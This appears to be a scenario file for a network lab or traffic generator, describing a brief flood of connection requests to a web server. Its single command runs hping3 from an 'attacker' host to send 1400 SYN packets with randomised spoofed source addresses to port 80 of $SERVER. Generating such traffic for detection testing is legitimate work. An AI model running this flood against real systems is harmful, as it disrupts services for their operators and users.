# A short flood of connection requests to the web port.
# packages: hping3
# packets: 1500
from attacker hping3 -q -S -p 80 -c 1400 -i u500 --rand-source $SERVER
